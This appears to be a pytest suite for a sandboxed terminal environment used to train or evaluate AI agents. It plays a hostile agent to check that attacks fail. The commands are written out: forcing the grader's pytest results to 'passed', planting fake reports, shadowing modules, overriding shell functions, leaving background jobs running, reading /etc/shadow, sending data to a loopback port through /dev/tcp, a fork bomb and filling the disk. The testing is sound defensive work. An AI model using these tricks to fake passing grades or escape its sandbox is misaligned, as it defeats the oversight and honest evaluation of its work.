"""The terminal environment's trust boundary, tried as a hostile agent would: each attack is one episode through
`TerminalEnv` on bubblewrap (and, in the slow tier where a Docker engine runs, on the docker backend), on a task the
agent does not solve (answer.txt must hold 42; it never writes it).
Every attack must end as a lost episode with the host untouched. An honest agent wins the same task, so a
loss is the validators' verdict, not a broken setup. Each defence's test fails on this machine without it
(run as root, as here, the sandbox is nobody; the loopback server and host paths below are real)."""

import os
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
import xml.etree.ElementTree as ET
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from qevolve.config import TerminalConfig
from qevolve.envs.terminal import SUBMIT, TerminalEnv

if shutil.which("bwrap") is None:
    if os.environ.get("CI"):
        pytest.fail(
            "bubblewrap is not installed: the terminal trust-boundary tests must run in CI (scripts/setup.sh "
            "installs it)",
            pytrace=False,
        )
    pytest.skip("bubblewrap is not installed (scripts/setup.sh installs it where it can)", allow_module_level=True)

PASSING_REPORT = (
    '<testsuites><testsuite name="pytest" tests="1"><testcase classname="test_outputs" '
    'name="test_answer"/></testsuite></testsuites>'
)
HOOK = [
    "import pytest",
    "@pytest.hookimpl(hookwrapper=True)",
    "def pytest_runtest_makereport(item, call):",
    "    outcome = yield",
    "    outcome.get_result().outcome = 'passed'",
]


def lines(path: str, *content: str) -> str:
    """A command that writes `content` as lines to `path`."""
    return "printf '%s\\n' " + " ".join("'" + c.replace("'", "'\"'\"'") + "'" for c in content) + f" > {path}"


@dataclass(frozen=True)
class Tasks:
    root: Path
    backend: dict = field(default_factory=dict)  # the TerminalConfig keys that choose the sandbox

    @property
    def sandbox(self) -> str:
        return self.backend.get("sandbox", "bwrap")


BACKENDS = ["bwrap", pytest.param("docker", marks=pytest.mark.slow)]


@pytest.fixture(scope="module")
def docker_image(tmp_path_factory) -> str:
    """An image with bash, python3 and pytest, where a Docker engine runs (the slow tier)."""
    from tests.docker_engine import NO_ENGINE, engine, task_runner_image

    if not engine():
        pytest.skip(NO_ENGINE)
    return task_runner_image(tmp_path_factory.mktemp("image"))


def _backend(request, sandbox: str) -> dict:
    """The TerminalConfig keys of `sandbox` (docker: its image)."""
    return {"sandbox": "docker", "image": request.getfixturevalue("docker_image")} if sandbox == "docker" else {}


@pytest.fixture(scope="module", params=BACKENDS)
def task_root(request, tmp_path_factory) -> Tasks:
    backend = _backend(request, request.param)
    root = tmp_path_factory.mktemp("tasks")
    folder = root / "train" / "answer"
    (folder / "tests").mkdir(parents=True)
    (folder / "environment").mkdir()
    (folder / "solution").mkdir()
    (folder / "instruction.md").write_text("Write 42 into answer.txt.\n")
    (folder / "task.toml").write_text('[metadata]\ncategory = "text"\n[verifier]\ntimeout_sec = 10\n')
    (folder / "environment" / "notes.txt").write_text("nothing here\n")
    (folder / "solution" / "solve.sh").write_text("echo 42 > answer.txt\n")
    (folder / "tests" / "test_outputs.py").write_text(
        textwrap.dedent("""
        from pathlib import Path

        def test_answer():
            assert Path("/app/answer.txt").read_text().strip() == "42"
    """)
    )
    return Tasks(root, backend)


def play(tasks: Tasks, commands: list[str], command_timeout: float = 10.0):
    config = TerminalConfig(command_timeout=command_timeout, processes=64, **tasks.backend)
    env = TerminalEnv(str(tasks.root), config, max_steps=len(commands) + 1)
    try:
        env.reset(env.tasks("train")[0])
        outputs = [env.step(c).observation for c in commands]
        last = env.step(SUBMIT)
        return last, outputs, dict(env.info)
    finally:
        env.close()


def assert_lost(last, info):
    assert last.done and not last.won and last.reward == 0.0, info


def test_an_honest_agent_wins(task_root):
    last, _, info = play(task_root, ["echo 42 > answer.txt"])
    assert last.won and last.reward == 1.0 and info["tests_passed"] == 1 and "validation_error" not in info, info


def test_a_module_shadowing_the_test_runner_does_not_run(task_root):
    last, _, info = play(
        task_root,
        [
            lines("pytest.py", "import sys", "sys.exit(0)"),
            "mkdir -p _pytest && cp pytest.py _pytest/__init__.py",
            lines("sitecustomize.py", "import os; os._exit(0)"),
            lines("usercustomize.py", "import os; os._exit(0)"),
            lines("evil.pth", "import os; os._exit(0)"),
        ],
    )
    assert_lost(last, info)
    assert info["tests_total"] == 1, "pytest itself ran and found the real test"


def test_conftest_ini_and_pyproject_hooks_in_app_are_not_loaded(task_root):
    last, _, info = play(
        task_root,
        [
            lines("conftest.py", *HOOK),
            lines("evil.py", *HOOK),
            lines("pytest.ini", "[pytest]", "pythonpath = .", "addopts = -p evil"),
            lines("pyproject.toml", "[tool.pytest.ini_options]", "pythonpath = ['.']", "addopts = '-p evil'"),
            "cp pytest.ini tox.ini && cp pytest.ini setup.cfg && sed -i 's/\\[pytest\\]/[tool:pytest]/' setup.cfg",
        ],
    )
    assert_lost(last, info)


def test_the_agents_environment_variables_do_not_reach_the_validators(task_root):
    last, _, info = play(
        task_root, [lines("evil.py", *HOOK), "export PYTHONPATH=/app PYTEST_PLUGINS=evil PYTEST_ADDOPTS='-p evil'"]
    )
    assert_lost(last, info)


def test_shell_functions_and_aliases_do_not_reach_the_validators(task_root):
    last, _, info = play(
        task_root,
        [
            lines(
                "fake.sh", f"echo '{PASSING_REPORT}' > /app/.qevolve-validators.xml"
            ),  # where the validators' report once was
            f"function {sys.executable} {{ bash /app/fake.sh; }}",
            "python3() { return 0; }; pytest() { return 0; }; cd() { return 0; }; export -f python3 pytest cd",
            "alias python3=true pytest=true; shopt -s expand_aliases",
        ],
    )
    assert_lost(last, info)


def test_background_jobs_do_not_outlive_the_agent_or_race_the_validators(task_root):
    marker = f"qevolve-attack-{os.getpid()}"
    last, _, info = play(
        task_root,
        [
            lines(
                "race.sh",
                "while true; do",
                f"  echo '{PASSING_REPORT}' > /app/.qevolve-validators.xml",
                "  echo 42 > /app/late.txt",
                "  sleep 0.01",
                "done",
            ),
            f"(exec -a {marker} bash /app/race.sh) > /dev/null 2>&1 &",
            f"setsid nohup bash -c 'exec -a {marker}-2 bash /app/race.sh' > /dev/null 2>&1 & disown",
        ],
    )
    assert_lost(last, info)
    left = [p for p in Path("/proc").iterdir() if p.name.isdigit() and marker.encode() in _cmdline(p)]
    assert not left, "the agent's background jobs were ended before the validators ran"


def _cmdline(proc: Path) -> bytes:
    try:
        return (proc / "cmdline").read_bytes()
    except OSError:
        return b""


def test_links_and_fifos_where_the_host_once_read_or_copied_lead_nowhere(task_root, tmp_path):
    host = tmp_path / "host-dir"
    host.mkdir()
    (host / "keep.txt").write_text("host file\n")
    start = time.monotonic()
    last, _, info = play(
        task_root,
        [
            f"ln -s {host} tests && ln -s {host}/keep.txt .qevolve-validators.xml && ln -s /etc/passwd report.xml",
            "mkfifo answer.txt fifo.xml && ln -s /app/fifo.xml /app/r.xml",
        ],
    )
    assert_lost(last, info)
    assert sorted(p.name for p in host.iterdir()) == ["keep.txt"] and (host / "keep.txt").read_text() == "host file\n"
    assert time.monotonic() - start < 60, "a FIFO where a file is read blocks nothing on the host"


def test_a_report_written_in_advance_is_never_read(task_root):
    last, _, info = play(
        task_root,
        [
            *(f"echo '{PASSING_REPORT}' > {p}" for p in ("report.xml", "/tmp/report.xml", "junit.xml")),
            "mkdir -p report tests .qevolve-validators.xml && cp report.xml report/ && cp report.xml tests/ && cp "
            "report.xml .qevolve-validators.xml/",
        ],
    )
    assert_lost(last, info)
    assert info["tests"] == {"test_outputs::test_answer": "failed"}, "pytest's own report of the real test was read"


def test_host_secrets_are_not_readable_inside(task_root):
    secret = Path("/etc/shadow").read_text().splitlines()[0] if os.access("/etc/shadow", os.R_OK) else "root:"
    last, outputs, info = play(
        task_root,
        ["cat /etc/shadow /etc/gshadow /root/.bashrc 2>&1; ls /etc 2>&1", "cat /proc/1/environ 2>&1 | tr '\\0' ' '"],
    )
    assert_lost(last, info)
    assert secret not in outputs[0]
    if task_root.sandbox == "bwrap":  # its /etc holds the loader's files alone; a container's is its image's
        assert "shadow" not in outputs[0].split("\n")[-1]


def test_a_loopback_server_on_the_host_cannot_be_reached(task_root):
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    port, accepted, stop = server.getsockname()[1], [], threading.Event()

    def accept():
        while not stop.is_set():
            try:
                accepted.append(server.accept())
            except OSError:
                pass

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        last, outputs, info = play(
            task_root,
            [
                f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), "
                f"2).sendall(b'leak')\" 2>&1 | tail -1",
                f"echo leak > /dev/tcp/127.0.0.1/{port}; echo status $?",
                "ls /sys/class/net 2>&1; cat /proc/net/dev | tail -n +3",
            ],
        )
    finally:
        stop.set()
        thread.join(timeout=5)
        server.close()
    assert_lost(last, info)
    assert accepted == [], "the sandbox reached the host's loopback"
    assert "Connection refused" in outputs[0] or "Network is unreachable" in outputs[0]
    assert all(
        not line.strip() or line.split(":")[0].strip() == "lo" for line in outputs[2].splitlines()[1:] if ":" in line
    )


def test_writes_outside_app_never_reach_the_host(task_root):
    marker = f"qevolve-attack-{os.getpid()}"
    targets = [Path("/tmp") / marker, Path(sys.prefix) / marker, Path("/usr/local") / marker, Path("/root") / marker]
    last, _, info = play(task_root, [" ; ".join(f"echo x > {t} 2>&1" for t in targets) + "; true"])
    assert_lost(last, info)
    assert not any(os.path.lexists(t) for t in targets)  # lexists: False, not an error, where /root is shut


def test_a_fork_bomb_is_contained_and_loses(task_root):
    start = time.monotonic()
    last, outputs, info = play(task_root, [":(){ :|:& };:", "echo still here"], command_timeout=3.0)
    assert_lost(last, info)
    assert time.monotonic() - start < 90


@pytest.mark.parametrize("sandbox", BACKENDS)
def test_after_a_fork_bomb_the_next_step_answers(tmp_path, request, sandbox):
    """A bomb left forking in the background fills the sandbox's process cap; the next step finds it there, kills
    every process but the shell, and answers: 10 tries of 10 (before, the shell was starved in about half)."""
    from qevolve.envs.sandbox import Limits, Session

    image = _backend(request, sandbox).get("image", "")
    for trial in range(10):
        session = Session(sandbox, tmp_path, Limits(processes=64), image=image)
        try:
            if sandbox == "bwrap" and not any((g / "pids.max").exists() for g in session.cgroups):
                pytest.skip(
                    "no pids cgroup this process may make: the cap is `ulimit -u`, shared by the uid's processes"
                )
            session.run(":(){ :|:& };:", timeout=3)
            started = time.monotonic()
            answer = session.run("echo still here", timeout=5)
            assert "still here" in answer.output and answer.status == 0 and not answer.timed_out, (trial, answer)
            assert time.monotonic() - started < 5
        finally:
            session.close()
    session = Session(sandbox, tmp_path, Limits(processes=64), image=image)  # jobs that hold still are the agent's
    try:
        session.run("sleep 60 & sleep 60 &", timeout=5)
        assert session.run("jobs -r | wc -l", timeout=5).output.strip() == "2"
    finally:
        session.close()


def test_whatever_breaks_validation_loses_instead_of_dropping_the_episode(task_root):
    last, _, info = play(
        task_root, ["ln -s /nonexistent tests && chmod 000 /app"]
    )  # the host once copied the tests to /app/tests
    assert_lost(last, info)
    assert "validation_error" in info or info["tests"] == {} or info["tests_passed"] == 0


@pytest.mark.skipif(os.geteuid() != 0, reason="the disk cap is a tmpfs qevolve mounts, which needs root")
@pytest.mark.parametrize("sandbox", [*BACKENDS, "local"])
def test_an_episode_cannot_fill_the_hosts_disk(tmp_path, request, sandbox):
    """5 GB written in /app, at once and in 250 MB files, fails inside the sandbox at `disk_mb`; the host's disk does
    not move; the cap goes with the episode."""
    if sandbox == "bwrap" and shutil.which("bwrap") is None:
        pytest.skip("bubblewrap is not installed")
    (tmp_path / "tasks" / "train" / "t" / "tests").mkdir(parents=True)
    (tmp_path / "tasks" / "train" / "t" / "instruction.md").write_text("Do nothing.\n")
    (tmp_path / "tasks" / "train" / "t" / "task.toml").write_text('[metadata]\ncategory = "x"\n')
    config = TerminalConfig(disk_mb=64, file_mb=4096, **({"sandbox": sandbox} | _backend(request, sandbox)))
    env = TerminalEnv(str(tmp_path / "tasks"), config, max_steps=5)
    free = shutil.disk_usage(tempfile.gettempdir()).free
    try:
        env.reset(env.tasks("train")[0])
        app = env.episode_dir
        assert os.path.ismount(app)
        big = env.step(
            "fallocate -l 5G big; echo $?; for i in $(seq 20); do head -c 250M /dev/zero > f$i || break; done; du "
            "-sm . | cut -f1"
        )
        assert "No space left on device" in big.observation and int(big.observation.split("\n")[-2]) <= 64
        assert abs(shutil.disk_usage(tempfile.gettempdir()).free - free) < 32 << 20  # the host's disk did not move
    finally:
        env.close()
    assert not app.exists() and not os.path.ismount(app)


HOST_USER = 1000  # the uid of a shared machine's user: not root


def as_user(uid: int) -> list[str]:
    """The command prefix that runs a command as `uid`, with no group and no capability of root's."""
    return ["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups"]


def _python_for(uid: int) -> str | None:
    """A Python of this one's version that `uid` may run and see (a sandbox binds it by its path): this one, where
    its folders let it, else the system's."""
    version = f"python{sys.version_info.major}.{sys.version_info.minor}"
    check = f"import os, sys; assert sys.version_info[:2] == {tuple(sys.version_info[:2])}; os.stat(sys.executable)"
    for python in (os.path.realpath(sys.executable), shutil.which(version, path="/usr/local/bin:/usr/bin:/bin")):
        if python and subprocess.run([*as_user(uid), python, "-c", check], capture_output=True).returncode == 0:
            return python
    return None


def _copy_distributions(site: Path, *names: str) -> None:
    """Copy the installed distributions `names` and what they require (their files as installed) into `site`."""
    from importlib.metadata import distribution

    from packaging.requirements import Requirement

    seen: set[str] = set()
    todo = list(names)
    while todo:
        dist = distribution(todo.pop())
        if dist.metadata["Name"].lower() in seen:
            continue
        seen.add(dist.metadata["Name"].lower())
        todo += [r.name for r in map(Requirement, dist.requires or []) if not r.marker or r.marker.evaluate()]
        for file in dist.files or []:
            source, target = Path(dist.locate_file(file)), site / file
            if source.is_file() and site in target.resolve().parents:
                target.parent.mkdir(parents=True, exist_ok=True)
                shutil.copy2(source, target)


@pytest.mark.skipif(os.geteuid() != 0, reason="run by root, the suite runs itself again as a host user that is not")
def test_every_attack_loses_when_the_host_user_is_not_root():
    """The same suite, run by a host user that is not root (uid 1000) in an environment made for it: bwrap makes a
    user namespace instead of setting up as root and dropping to nobody, and two defences need root, so their
    tests skip there: the pids cap falls back to `ulimit -u` (no cgroup may be made) and an episode's /app gets
    no disk cap (mounting a tmpfs needs root). Every other test must pass (docs/reliability.md)."""
    if shutil.which("setpriv") is None or (python := _python_for(HOST_USER)) is None:
        pytest.skip(f"no Python {sys.version_info.major}.{sys.version_info.minor} that uid {HOST_USER} may run")
    from qevolve.envs.host import remove_tree

    base = Path(tempfile.mkdtemp(prefix="qevolve-host-user-"))  # pytest's own tmp folders are root's alone (0700)
    try:
        subprocess.run([python, "-m", "venv", "--without-pip", str(base / "venv")], check=True)
        site = next((base / "venv").glob("lib/python3*/site-packages"))
        _copy_distributions(site, "pytest", "pydantic")
        shutil.copytree(Path(__file__).resolve().parents[1] / "src" / "qevolve", site / "qevolve")
        (base / "tests").mkdir()
        shutil.copy2(__file__, base / "tests" / Path(__file__).name)
        (base / "tmp").mkdir()
        subprocess.run(["chown", "-R", f"{HOST_USER}:{HOST_USER}", str(base)], check=True)
        env = {
            "PATH": "/usr/local/bin:/usr/bin:/bin",
            "HOME": str(base),
            "TMPDIR": str(base / "tmp"),
            "OMP_NUM_THREADS": "1",
            "LANG": "C.UTF-8",
        }
        pytest_args = ["-q", "-rs", "-p", "no:cacheprovider", "-m", "not slow", "-c", "/dev/null"]
        run = subprocess.run(
            [*as_user(HOST_USER), str(base / "venv" / "bin" / "python"), "-m", "pytest", *pytest_args]
            + ["--rootdir", str(base), "--basetemp", str(base / "pytest"), "--junitxml", str(base / "report.xml")]
            + [str(base / "tests")],
            cwd=base,
            env=env,
            capture_output=True,
            text=True,
            timeout=900,
        )
        cases = {c.get("name"): c for c in ET.parse(base / "report.xml").iter("testcase")}
    finally:
        remove_tree(base)
    skipped = {name for name, case in cases.items() if case.find("skipped") is not None}
    failed = {
        name for name, case in cases.items() if case.find("failure") is not None or case.find("error") is not None
    }
    assert not failed and run.returncode == 0, run.stdout[-4000:] + run.stderr[-2000:]
    assert skipped == {
        "test_after_a_fork_bomb_the_next_step_answers[bwrap]",
        "test_an_episode_cannot_fill_the_hosts_disk[bwrap]",
        "test_an_episode_cannot_fill_the_hosts_disk[local]",
        "test_every_attack_loses_when_the_host_user_is_not_root",
    }, run.stdout[-4000:]
    assert len(cases) - len(skipped) >= 12
